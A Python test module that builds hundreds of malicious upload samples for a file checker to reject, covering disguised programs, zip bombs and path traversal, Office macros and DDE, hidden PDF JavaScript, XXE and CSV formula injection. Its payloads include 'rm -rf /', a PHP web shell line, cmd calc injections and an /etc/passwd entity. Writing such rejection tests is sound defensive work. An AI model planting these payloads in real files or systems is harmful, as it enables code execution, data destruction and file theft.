"""More than two hundred files that must be refused, made by code (U1, Q7): name, content, what is expected."""

import base64
import stat
import struct
import zipfile
import zlib
from collections.abc import Iterator

from foundation.files.checks.signatures import EICAR, OLE
from tests.files.packages import (
    MAIN,
    ODF,
    WORD,
    block,
    jpeg,
    object_stream,
    office,
    open_document,
    pdf,
    png,
    relations,
    stream,
    zipped,
)

MEBIBYTE = 1024 * 1024
PROGRAMS = {
    "windows": b"MZ\x90\x00" + b"\x00" * 60 + b"PE\x00\x00",
    "linux": b"\x7fELF\x02\x01\x01" + b"\x00" * 60,
    "java": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 40,
    "mac": b"\xcf\xfa\xed\xfe" + b"\x00" * 60,
    "script": b"#!/bin/sh\nrm -rf /\n",
    "wasm": b"\x00asm\x01\x00\x00\x00",
    "lnk": b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 60,
    "ole": OLE + b"\x00" * 512,
}
ARCHIVES = {
    "7z": b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 40,
    "rar": b"Rar!\x1a\x07\x01\x00" + b"\x00" * 40,
    "gz": b"\x1f\x8b\x08\x00" + b"\x00" * 40,
    "bz2": b"BZh91AY&SY" + b"\x00" * 40,
    "xz": b"\xfd7zXZ\x00\x00\x04" + b"\x00" * 40,
    "tar": b"a.txt" + b"\x00" * 252 + b"ustar\x0000" + b"\x00" * 248,
}
RUN_BY_SOMETHING = [
    "exe",
    "dll",
    "com",
    "bat",
    "cmd",
    "msi",
    "scr",
    "pif",
    "ps1",
    "vbs",
    "js",
    "jse",
    "wsf",
    "hta",
    "jar",
    "sh",
    "reg",
    "lnk",
    "html",
    "htm",
    "svg",
    "php",
    "py",
    "pl",
    "iso",
    "docm",
    "xlsm",
    "pptm",
    "dotm",
    "xll",
    "apk",
    "deb",
    "chm",
    "url",
    "mht",
    "aspx",
]


def samples() -> Iterator[tuple[str, str, bytes]]:
    """(what it is, name, content)."""
    for family in (
        names,
        disguises,
        signatures,
        archives,
        words,
        sheets,
        open_documents,
        pdfs,
        object_streams,
        revisions,
        written_otherwise,
        heavy,
        images,
        texts,
    ):
        for label, name, content in family():
            yield f"{family.__name__}: {label}", name, content


def names():
    for extension in RUN_BY_SOMETHING:
        yield f".{extension}", f"devis.{extension}", b"contenu"
        yield f".{extension}.pdf", f"devis.{extension}.pdf", pdf()
    for name in (
        "devis",
        "devis.",
        ".pdf",
        "devis.pdf.exe",
        "devis\u202efdp.exe",
        "devis.tar",
        "devis.7z",
        "a.rar",
    ):
        yield repr(name), name, pdf()
    yield "empty", "vide.pdf", b""
    yield "too large", "gros.txt", b"a" * (20 * MEBIBYTE + 1)


def disguises():
    for label, content in {**PROGRAMS, **ARCHIVES}.items():
        for extension in ("pdf", "docx", "png", "csv"):
            yield f"{label} as {extension}", f"devis.{extension}", content
    for extension in ("pdf", "docx", "png", "jpg", "zip"):
        yield f"text as {extension}", f"devis.{extension}", b"bonjour tout le monde"
    yield "zip as docx", "devis.docx", zipped({"a.txt": b"a"})
    yield "docx as xlsx", "devis.xlsx", office("docx")
    yield "png as jpg", "photo.jpg", png()


def signatures():
    in_zip = zipped({"a.txt": b"bonjour " + EICAR})
    yield "alone", "essai.txt", EICAR
    yield "at the end", "essai.csv", b"a;b\n" * 5000 + EICAR
    yield "in json", "essai.json", b'{"a": "' + EICAR + b'"}'
    yield "in xml", "essai.xml", b"<a><!-- " + EICAR + b" --></a>"
    yield "in zip", "essai.zip", in_zip
    yield "in a system folder of a zip", "essai.zip", zipped({"a.txt": b"a", "__MACOSX/._a.txt": EICAR})
    yield "in docx", "essai.docx", office("docx", {"word/media/a.png": png() + EICAR})
    yield "in odt", "essai.odt", open_document("odt", {"Pictures/a.png": EICAR})
    yield "in pdf", "essai.pdf", pdf(stream(EICAR, packed=False))
    yield "in a packed stream of a pdf", "essai.pdf", pdf(stream(b"q Q " * 70000 + EICAR))
    yield "in png", "essai.png", png(4, 4, block(b"tEXt", b"Comment\x00" + EICAR))
    yield "in jpg", "essai.jpg", jpeg(comment=EICAR)


def _info(name: str, mode: int = 0, flag: int = 0) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.external_attr = mode << 16
    info.flag_bits |= flag
    return info


def _patched(content: bytes, local: int, central: int, value: bytes) -> bytes:
    """Change a field in the first local header and in the first central one."""
    place = content.index(b"PK\x01\x02")
    changed = bytearray(content)
    changed[local : local + len(value)] = value
    changed[place + central : place + central + len(value)] = value
    return bytes(changed)


def _overlapping(count: int = 30) -> bytes:
    """Every entry of the directory shows the same packed bytes (a bomb that does not repeat itself)."""
    one = zipped({"a.txt": b"a" * 500_000})
    place = one.index(b"PK\x01\x02")
    local, central = one[:place], one[place : one.index(b"PK\x05\x06")]
    directory = b"".join(central.replace(b"a.txt", b"%05d" % number) for number in range(count))
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(directory), len(local), 0)
    return local + directory + end


def archives():
    for name in (
        "../fuite.txt", "a/../../fuite.txt", "/etc/passwd.txt", "C:/Windows/a.txt", "\\\\serveur\\part\\a.txt",
        "..\\..\\a.txt", "~/a.txt", "a\u202efdp.txt", "a/" * 40 + "a.txt", "bon\x07.txt",
    ):  # fmt: skip
        yield f"path {name[:20]!r}", "lot.zip", zipped({name: b"a"})
    yield "symlink", "lot.zip", zipped({_info("lien.txt", stat.S_IFLNK | 0o777): b"/etc/passwd"})
    yield "fifo", "lot.zip", zipped({_info("tube.txt", stat.S_IFIFO | 0o600): b""})
    yield "device", "lot.zip", zipped({_info("disque.txt", stat.S_IFBLK | 0o600): b""})
    yield "encrypted", "lot.zip", _patched(zipped({"a.txt": b"secret"}), 6, 8, b"\x01\x00")
    yield "unknown method", "lot.zip", _patched(zipped({"a.txt": b"a"}), 8, 10, b"\x62\x00")
    yield "bzip2", "lot.zip", zipped({"a.txt": b"a" * 99}, method=zipfile.ZIP_BZIP2)
    yield "lzma", "lot.zip", zipped({"a.txt": b"a" * 99}, method=zipfile.ZIP_LZMA)
    yield "ratio", "lot.zip", zipped({"a.txt": b"\x20" * (30 * MEBIBYTE)})
    yield "sum", "lot.zip", zipped({f"{n}.txt": bytes(range(32, 96)) * 8192 * 2 * 25 for n in range(9)})
    yield "count", "lot.zip", zipped({f"{number}.txt": b"a" for number in range(1001)})
    yield "overlap", "lot.zip", _overlapping()
    yield (
        "announced smaller",
        "lot.zip",
        _patched(zipped({"a.txt": b"a" * 5000}), 22, 24, struct.pack("<I", 10)),
    )
    yield "checksum", "lot.zip", _patched(zipped({"a.txt": b"a" * 50}), 14, 16, b"\x00\x00\x00\x01")
    yield "same name twice", "lot.zip", zipped([("a.txt", b"a"), ("A.TXT", b"b")])
    yield "before", "lot.zip", b"MZ" + zipped({"a.txt": b"a"})
    yield "prefix", "lot.zip", b"PK\x03\x04" + b"<script>" * 10 + zipped({"a.txt": b"a"})
    yield "after", "lot.zip", zipped({"a.txt": b"a"}) + b"<script>alert(1)</script>"
    yield "truncated", "lot.zip", zipped({"a.txt": b"a" * 5000})[:-30]
    yield "cut in half", "lot.zip", zipped({"a.txt": bytes(range(256)) * 50})[:200]
    yield "zip in zip", "lot.zip", zipped({"b.zip": zipped({"a.txt": b"a"})})
    yield "zip in zip, renamed", "lot.zip", zipped({"b.pdf": zipped({"a.txt": b"a"})})
    yield (
        "zip in docx in zip",
        "lot.zip",
        zipped({"a.docx": office("docx", {"word/embeddings/a.zip": zipped({"a": b"a"})})}),
    )
    for label, content in ARCHIVES.items():
        yield f"{label} inside", "lot.zip", zipped({f"a.{label}": content})
    for label, content in PROGRAMS.items():
        yield f"{label} inside", "lot.zip", zipped({"a.pdf": content})
    for name in ("a.exe", "a.html", "a.svg", "a.docm", "a.js", "a.exe.pdf", "a", "a.lnk"):
        yield f"{name} inside", "lot.zip", zipped({"ok.txt": b"a", name: b"contenu"})
    yield (
        "active pdf inside",
        "lot.zip",
        zipped({"a.pdf": pdf(catalog=b"/OpenAction << /S /JavaScript /JS (x) >>")}),
    )
    yield "macros inside", "lot.zip", zipped({"a.docx": office("docx", {"word/vbaProject.bin": OLE})})


def _everywhere(kind: str):
    """What is refused in the three office formats alike."""
    folder = MAIN[kind].split("/", maxsplit=1)[0]
    rels = f"{folder}/_rels/{MAIN[kind].split('/')[1]}.rels"
    yield "macro project", {f"{folder}/vbaProject.bin": OLE}, {}
    yield "macro project, other case", {f"{folder}/VBAproject.BIN": b"a"}, {}
    yield (
        "macro type",
        {},
        {"types": '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'},
    )
    yield "macro relation", {rels: relations(("vbaProject", "x.bin", False))}, {}
    yield "activeX", {f"{folder}/activeX/activeX1.xml": "<a/>"}, {}
    yield "ole object", {f"{folder}/embeddings/oleObject1.bin": OLE + b"\x00" * 99}, {}
    yield "program", {f"{folder}/media/image1.png": PROGRAMS["windows"]}, {}
    yield "program named", {f"{folder}/media/outil.exe": b"x"}, {}
    yield "remote image", {rels: relations(("image", "https://pisteur.example/a.png", True))}, {}
    yield "remote object", {rels: relations(("oleObject", "https://attaque.example/a.rtf", True))}, {}
    yield "remote on a share", {rels: relations(("hyperlink", "\\\\serveur\\partage\\a", True))}, {}
    yield "link that runs", {rels: relations(("hyperlink", "ms-msdt:/id PCWDiagnostic", True))}, {}
    yield "link to a script", {rels: relations(("hyperlink", "javascript:alert(1)", True))}, {}
    yield "entity", {}, {"body": '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'}
    yield (
        "wide entity",
        {},
        {"body": '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a><a/>'.encode("utf-16")},
    )
    yield "odd encoding", {}, {"body": b'<?xml version="1.0" encoding="utf-7"?><a/>'}
    yield "bomb", {f"{folder}/media/a.xml": b" " * (45 * MEBIBYTE)}, {}
    yield "path", {"../../a.xml": "<a/>"}, {}
    yield (
        "document with macros inside",
        {f"{folder}/embeddings/a.docx": office("docx", {"word/vbaProject.bin": OLE})},
        {},
    )
    yield "other file inside", {f"{folder}/embeddings/a.bin": zipped({"a": b"a"})}, {}


def words():
    for kind in ("docx", "pptx"):
        for label, extra, more in _everywhere(kind):
            yield f"{kind} {label}", f"note.{kind}", office(kind, extra, **more)
    yield "protected", "note.docx", OLE + b"E\x00n\x00c\x00r\x00y\x00p\x00t\x00e\x00d"
    template = relations(("attachedTemplate", "https://attaque.example/a.dotm", True))
    yield "remote template", "note.docx", office("docx", {"word/_rels/settings.xml.rels": template})
    for label, body in {
        "dde": '<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText>',
        "dde in two runs": "<w:instrText>DD</w:instrText><w:instrText>E cmd</w:instrText>",
        "dde simple": '<w:fldSimple w:instr="DDE cmd"/>',
        "dde escaped": "<w:instrText>&#68;DEAUTO cmd</w:instrText>",
        "remote picture": '<w:instrText>INCLUDEPICTURE "https://pisteur.example/a.png"</w:instrText>',
        "remote text": '<w:instrText>INCLUDETEXT "\\\\serveur\\a"</w:instrText>',
        "macro button": "<w:instrText>MACROBUTTON Lancer</w:instrText>",
    }.items():
        yield label, "note.docx", office("docx", body=f'<w:p xmlns:w="{WORD}">{body}</w:p>')
    yield "macro type unsaid", "note.docx", office("docx", types="<x ContentType='a/vbaProject'/>")


def sheets():
    for label, extra, more in _everywhere("xlsx"):
        yield f"xlsx {label}", "prix.xlsx", office("xlsx", extra, **more)
    yield "linked workbook", "prix.xlsx", office("xlsx", {"xl/externalLinks/externalLink1.xml": "<a/>"})
    yield "old macro sheet", "prix.xlsx", office("xlsx", {"xl/macrosheets/sheet1.xml": "<a/>"})
    yield "connection", "prix.xlsx", office("xlsx", {"xl/connections.xml": "<a/>"})
    for formula in (
        "cmd|'/c calc'!A1", "=cmd|' /c calc'!A1", "WEBSERVICE(&quot;https://x.example&quot;)", "CALL(&quot;k&quot;)",
        "EXEC(&quot;calc&quot;)", "RTD(&quot;x&quot;,,1)", "REGISTER(&quot;k&quot;)", "MSEXCEL|'\\..\\cmd'!A1",
    ):  # fmt: skip
        sheet = f'<worksheet><c r="A1"><f>{formula}</f></c></worksheet>'
        yield f"formula {formula[:14]}", "prix.xlsx", office("xlsx", {"xl/worksheets/sheet1.xml": sheet})
    dde = "<externalLink><ddeLink ddeService='cmd'/></externalLink>"
    yield "dde link", "prix.xlsx", office("xlsx", {"xl/autre.xml": dde})


def open_documents():
    for kind in ODF:
        yield f"{kind} basic", f"note.{kind}", open_document(kind, {"Basic/Standard/Module1.xml": "<a/>"})
        yield f"{kind} python", f"note.{kind}", open_document(kind, {"Scripts/python/a.py": "import os"})
        yield (
            f"{kind} event",
            f"note.{kind}",
            open_document(kind, content='<a><script:event-listener xlink:href="vnd.sun.star.script:a"/></a>'),
        )
        yield (
            f"{kind} dde",
            f"note.{kind}",
            open_document(kind, content='<a><office:dde-source office:dde-application="cmd"/></a>'),
        )
        yield (
            f"{kind} remote image",
            f"note.{kind}",
            open_document(kind, content='<a><draw:image xlink:href="https://x.example/a.png"/></a>'),
        )
        yield (
            f"{kind} linked section",
            f"note.{kind}",
            open_document(kind, content='<a><text:section-source xlink:href="file://s/a"/></a>'),
        )
        yield (
            f"{kind} link that runs",
            f"note.{kind}",
            open_document(kind, content='<a><text:a xlink:href="macro:///a.b"/></a>'),
        )
        yield f"{kind} ole", f"note.{kind}", open_document(kind, {"Object 1": OLE})
        secret = "<m><manifest:encryption-data/></m>"
        yield (
            f"{kind} protected",
            f"note.{kind}",
            zipped({"mimetype": ODF[kind], "META-INF/manifest.xml": secret}),
        )
        yield (
            f"{kind} entity",
            f"note.{kind}",
            open_document(kind, content='<!DOCTYPE a [<!ENTITY x "y">]><a/>'),
        )
        other = next(name for name in ODF if name != kind)
        yield f"{other} as {kind}", f"note.{kind}", open_document(other)
    formula = '<a><table:table-cell table:formula="of:=WEBSERVICE(1)"/></a>'
    yield "formula", "prix.ods", open_document("ods", content=formula)


def _stream_with(filters: list[bytes], body: bytes, facts: bytes = b"") -> bytes:
    """A stream whose body was already written through these filters."""
    names = b" ".join(b"/" + name + (b"" if len(name) < 4 else b"Decode") for name in filters)
    head = b"<< /Length %d /Filter [%s] " % (len(body), names) + facts
    return head + b" >>\nstream\n" + body + b"\nendstream"


def pdfs():
    actions = {
        "script": b"<< /S /JavaScript /JS (app.alert(1)) >>",
        "script in a stream": b"<< /S /JavaScript /JS 5 0 R >>",
        "launch": b"<< /S /Launch /F (cmd.exe) >>",
        "send form": b"<< /S /SubmitForm /F (https://x.example) >>",
        "import": b"<< /S /ImportData /F (a) >>",
        "go to embedded": b"<< /S /GoToE /T << >> >>",
        "go to remote": b"<< /S /GoToR /F (\\\\\\\\serveur\\\\a) >>",
        "rendition": b"<< /S /Rendition >>",
    }
    for label, action in actions.items():
        yield f"{label} on opening", "note.pdf", pdf(catalog=b"/OpenAction " + action)
        yield f"{label} apart", "note.pdf", pdf(action, catalog=b"/OpenAction 4 0 R")
        yield f"{label} compressed", "note.pdf", pdf(object_stream(action))
        escaped = action.replace(b"a", b"#61").replace(b"/S /", b"/S /") if b"/J" in action else action
        yield (
            f"{label} escaped",
            "note.pdf",
            pdf(escaped.replace(b"Launch", b"L#61unch").replace(b"GoTo", b"Go#54o")),
        )
        yield f"{label} on a page", "note.pdf", pdf(b"<< /AA << /O " + action + b" >> >>")
    yield "name of scripts", "note.pdf", pdf(catalog=b"/Names << /JavaScript << /Names [] >> >>")
    yield "address on opening", "note.pdf", pdf(catalog=b"/OpenAction << /S /URI /URI (https://x.example) >>")
    yield (
        "address on opening, apart",
        "note.pdf",
        pdf(b"<< /S /URI /URI (https://x.example) >>", catalog=b"/OpenAction 4 0 R"),
    )
    yield (
        "embedded file",
        "note.pdf",
        pdf(stream(b"MZ", b"/Type /EmbeddedFile"), catalog=b"/Names << /EmbeddedFiles << >> >>"),
    )
    yield "embedded, compressed", "note.pdf", pdf(object_stream(b"<< /EmbeddedFiles 5 0 R >>"))
    yield "attachment", "note.pdf", pdf(b"<< /Subtype /FileAttachment >>")
    yield "rich media", "note.pdf", pdf(b"<< /Subtype /RichMedia >>")
    yield "xfa", "note.pdf", pdf(b"<< /XFA 5 0 R >>", stream(b"<xdp/>"))
    yield "protected", "note.pdf", pdf(b"<< /Filter /Standard >>", trailer=b"/Encrypt 4 0 R")
    yield (
        "flate twice",
        "note.pdf",
        pdf(_stream_with([b"Flate", b"Flate"], zlib.compress(zlib.compress(b"q Q")))),
    )
    yield "bomb", "note.pdf", pdf(stream(b"\x00" * (257 * MEBIBYTE)))
    yield "page before", "note.pdf", b"<script>x</script>" + pdf()
    yield "page inside", "note.pdf", pdf()[:9] + b"<html><script>x</script>" + pdf()[9:]
    yield "page after", "note.pdf", pdf(tail=b"<script>alert(1)</script>")
    yield "much after", "note.pdf", pdf(tail=b"A" * 5000)
    yield "zip after", "note.pdf", pdf(tail=zipped({"a.class": b"a"}))
    yield "no end", "note.pdf", pdf()[:-20]


SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
"""What every PDF below hides in its own way."""


def _run_length(data: bytes) -> bytes:
    pieces = (data[start : start + 128] for start in range(0, len(data), 128))
    return b"".join(bytes([len(piece) - 1]) + piece for piece in pieces) + b"\x80"


def _lzw(data: bytes) -> bytes:
    """Codes of nine bits, the table cleared before it grows (ISO 32000-1, 7.4.4)."""
    codes = []
    for place, byte in enumerate(data):
        codes += [256, byte] if place % 200 == 0 else [byte]
    bits = "".join(f"{code:09b}" for code in [*codes, 257])
    bits += "0" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8, "big")


def _hexadecimal(data: bytes) -> bytes:
    return data.hex().encode() + b">"


def _ascii85(data: bytes) -> bytes:
    return base64.a85encode(data) + b"~>"


FILTERED = {
    "hexadecimal, flate": ([b"ASCIIHex", b"Flate"], lambda data: _hexadecimal(zlib.compress(data))),
    "hexadecimal": ([b"ASCIIHex"], _hexadecimal),
    "ascii 85": ([b"ASCII85"], _ascii85),
    "ascii 85, flate": ([b"ASCII85", b"Flate"], lambda data: _ascii85(zlib.compress(data))),
    "lzw": ([b"LZW"], _lzw),
    "run length": ([b"RunLength"], _run_length),
    "crypt": ([b"Crypt", b"Flate"], zlib.compress),
    "short names": ([b"AHx", b"Fl"], lambda data: _hexadecimal(zlib.compress(data))),
    "short flate": ([b"Fl"], zlib.compress),
    "flate": ([b"Flate"], zlib.compress),
    "flate twice": ([b"Flate", b"Flate"], lambda data: zlib.compress(zlib.compress(data))),
    "unknown": ([b"JBIG2"], zlib.compress),
}


def _by_object_stream(
    filters: list[bytes], written, *, before: bytes = b"", opened: bytes = b"stream\n"
) -> bytes:
    """A PDF whose catalogue opens on a script that lies in an object stream, found by a stream of references."""
    inside = before + SCRIPT
    holder = _stream_with(filters, written(b"4 0 " + inside), b"/Type /ObjStm /N 1 /First 4")
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        5: holder.replace(b"stream\n", opened, 1),
    }
    content, places = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", {}
    for number, body in objects.items():
        places[number] = len(content)
        content += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    places[6] = len(content)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", *((2, 5, 0) if n == 4 else (1, places[n], 0))) for n in range(1, 7)]
    facts = b"/Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R"
    table = _stream_with([b"Flate"], zlib.compress(b"".join(rows)), facts)
    return content + b"6 0 obj\n" + table + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % places[6]


def object_streams():
    for label, (filters, written) in FILTERED.items():
        yield label, "note.pdf", _by_object_stream(filters, written)
    flate = FILTERED["flate"]
    yield "space after the word", "note.pdf", _by_object_stream(*flate, opened=b"stream \r\n")
    yield "comment first", "note.pdf", _by_object_stream(*flate, before=b"%" + b"a" * 5000 + b"\n")
    yield "spaces first", "note.pdf", _by_object_stream(*flate, before=b" " * 300_000)
    nested = stream(b"9 0 " + SCRIPT, b"/Type /ObjStm /N 1 /First 4")
    yield "nested", "note.pdf", pdf(stream(b"8 0 " + nested, b"/Type /ObjStm /N 1 /First 4", packed=False))


def revisions():
    """Objects replaced, added and freed after the end of a sound PDF."""
    sound = pdf(b"<< /S /GoTo /D [3 0 R /Fit] >>", catalog=b"/OpenAction 4 0 R")
    place, former = len(sound), sound.rindex(b"xref\n0 ")
    changed = b"4 0 obj\n" + SCRIPT + b"\nendobj\n"
    table = b"xref\n4 1\n%010d 00000 n \ntrailer\n<< /Size 5 /Root 1 0 R /Prev %d >>\n" % (place, former)
    end = b"startxref\n%d\n%%%%EOF\n" % (place + len(changed))
    yield "replaced", "note.pdf", sound + changed + table + end
    yield "added, no table", "note.pdf", sound[:-7] + changed + b"startxref\n0\n%%EOF\n"
    lost = (
        pdf(SCRIPT, catalog=b"/OpenAction 4 0 R")
        .replace(b"xref\n0", b"xxxx\n0")
        .replace(b"startxref", b"startxxxx")
    )
    yield "table lost", "note.pdf", lost
    yield (
        "tables in a circle",
        "note.pdf",
        sound.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % former)[:-6] + SCRIPT + b"%%EOF",
    )


def written_otherwise():
    """The same words, as the standard lets one write them."""
    for label, action in {
        "escaped": b"<< /S /J#61vaScript /JS (x) >>",
        "escaped, capital": b"<< /#53 /#4AavaScript /J#53 (x) >>",
        "wholly escaped": b"<< /S /" + b"".join(b"#%02x" % letter for letter in b"Launch") + b" /F (x) >>",
        "no space": b"<</S/JavaScript/JS(x)>>",
        "comments": b"<< /S % a\n % b\n /JavaScript /JS % c\n (x) >>",
        "deep in arrays": b"<< /A " + b"[" * 60 + b"<< /S /JavaScript /JS (x) >>" + b"]" * 60 + b" >>",
        "short": b"<< /JS (x) >>",
        "next": b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >> >>",
    }.items():
        yield label, "note.pdf", pdf(action, catalog=b"/OpenAction 4 0 R")
    yield (
        "name apart",
        "note.pdf",
        pdf(b"<< /S 5 0 R /JS (x) >>", b"/J#61vaScript", catalog=b"/OpenAction 4 0 R"),
    )
    chain = [b"<< /S /GoTo /D [3 0 R /Fit] /Next %d 0 R >>" % number for number in range(5, 40)]
    yield "address at the end of a chain", "note.pdf", pdf(*chain, b"<< /S /URI /URI (https://x.example) >>",
                                                           catalog=b"/OpenAction 4 0 R")  # fmt: skip
    page = b"<< /AA << /O [5 0 R] >> >>"
    yield "address when a page shows", "note.pdf", pdf(page, b"<< /S /URI /URI (https://x.example) >>")
    yield (
        "attached file",
        "note.pdf",
        pdf(b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>", stream(b"MZ")),
    )


def heavy():
    """Small files whose check takes for ever when its time grows faster than they do."""
    field = f'<w:p xmlns:w="{WORD}"><w:instrText>{"INCLUDETEXT " * 60_000}</w:instrText></w:p>'
    yield "fields", "note.docx", office("docx", body=field + "<")
    yield (
        "fields that fetch",
        "note.docx",
        office("docx", body=field.replace("</w:i", " https://x.example</w:i")),
    )
    yield "open field tags", "note.docx", office("docx", body="<w:instrText " * 80_000)
    yield "open relations", "note.docx", office("docx", {"word/_rels/a.rels": "<Relationship " * 80_000})
    yield "open formulas", "prix.xlsx", office("xlsx", {"xl/worksheets/sheet1.xml": "<f " * 300_000})
    yield "doctypes", "note.odt", open_document("odt", content="<!DOCTYPE " * 80_000)
    yield "open images", "note.odt", open_document("odt", content="<draw:image " * 80_000)
    yield "open links", "note.odt", open_document("odt", content="<text:a " * 80_000)
    opens = b"\n".join(b"/OpenAction %d 0 R" % number for number in range(5, 700)) + b"." * (4 * MEBIBYTE)
    yield (
        "opening actions",
        "note.pdf",
        pdf(opens, b"<< /S /URI /URI (https://x.example) >>", catalog=b"/OpenAction 5 0 R"),
    )
    yield "deep part", "note.docx", office("docx", body="<a>" * 200_000 + "</a>" * 200_000)
    yield (
        "deep arrays",
        "note.pdf",
        pdf(b"<< /A " + b"[" * 200_000 + b"]" * 200_000 + b" /S /JavaScript /JS (x) >>"),
    )
    yield "long attribute", "note.odt", open_document("odt", content=f'<a b="{"c" * (20 * MEBIBYTE)}"')
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    yield (
        "laughs in a part",
        "note.docx",
        office("docx", body=f'<!DOCTYPE a [<!ENTITY l0 "ha">{laughs}]><a>&l11;</a>'),
    )
    cells = "<c><v>1</v></c>" * 1_000_000
    yield (
        "a million cells, cut",
        "prix.xlsx",
        office("xlsx", {"xl/worksheets/sheet1.xml": f"<worksheet><row>{cells}</worksheet>"}),
    )
    yield "entries", "lot.zip", zipped({f"{number}.txt": b"" for number in range(60_000)})
    announced = zipped({f"{number}.txt": b"" for number in range(20_000)})
    yield "entries, fewer said", "lot.zip", announced[:-14] + struct.pack("<HH", 9, 9) + announced[-10:]
    lines = "nom;prix\n" + "\n" * 2_000_000 + "=cmd|' /C calc'!A0\n"
    yield "empty lines", "prix.csv", lines.encode()
    yield "tabs", "prix.csv", b"nom;prix\n" + b"\t" * 2_000_000 + b"=cmd|' /C calc'!A0"
    comment = block(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"a" * 2_000_000))
    yield "many comments", "a.png", png(4, 4, *[comment] * 2000)


def images():
    yield "flood png", "a.png", png(30_000, 30_000)
    yield "flood jpg", "a.jpg", jpeg(60_000, 60_000)
    yield "no size", "a.png", png(0, 0)
    yield "zip after png", "a.png", png(tail=zipped({"a.class": b"a" * 20}))
    yield "page after png", "a.png", png(tail=b"<html><script>x</script></html>")
    yield "script in png", "a.png", png(4, 4, block(b"tEXt", b"Comment\x00<script>alert(1)</script>"))
    yield "php in png", "a.png", png(4, 4, block(b"tEXt", b"Comment\x00<?php system($_GET[0]);"))
    yield "php in jpg", "a.jpg", jpeg(comment=b"<?php system($_GET[0]);")
    yield "zip in jpg", "a.jpg", jpeg(tail=zipped({"a.class": b"a" * 20}))
    yield "pdf in jpg", "a.jpg", jpeg(comment=b"%PDF-1.4")
    yield "page in jpg", "a.jpeg", jpeg(comment=b"<html><body>")
    yield "cut png", "a.png", png()[:60]
    yield "cut jpg", "a.jpg", jpeg()[:30]
    bomb = zlib.compress(b"a" * (6 * MEBIBYTE))
    yield "comment bomb", "a.png", png(4, 4, block(b"zTXt", b"Comment\x00\x00" + bomb))


def texts():
    page = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
    drawing = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    for extension in ("txt", "md", "csv", "json", "xml"):
        yield f"page as {extension}", f"a.{extension}", page
        yield f"drawing as {extension}", f"a.{extension}", b"\n  " + drawing
        yield f"program as {extension}", f"a.{extension}", PROGRAMS["script"]
        yield f"zeros as {extension}", f"a.{extension}", b"abc\x00\x00\x01\x02"
    yield "wide page", "a.txt", "<html><script>x</script>".encode("utf-16")
    yield "rtf as txt", "a.txt", b"{\\rtf1\\object\\objdata}"
    yield "controls", "a.txt", b"bonjour \x1b\x08\x08\x01"
    yield "not json", "a.json", b"bonjour"
    laughs = b'<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
    yield "laughs", "a.xml", laughs
    yield "outside entity", "a.xml", b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'
    yield "wide entity", "a.xml", laughs.decode().encode("utf-16")
    yield "style sheet", "a.xml", b'<?xml version="1.0"?><?xml-stylesheet href="a.xsl"?><a/>'
    yield "script inside", "a.xml", b'<a><script xmlns="http://www.w3.org/1999/xhtml">x</script></a>'
    yield "not closed", "a.xml", b"<a><b></a>"
    yield "deep", "a.xml", b"<a>" * 5000 + b"</a>" * 5000
    for cell in ("=cmd|' /C calc'!A0", "+cmd|'/c calc'!A1", "@SUM(1)|cmd!A0", "-2+3+cmd|' /C calc'!A0"):
        yield f"cell {cell[:8]}", "a.csv", f"nom;prix\nAchat;{cell}\n".encode()
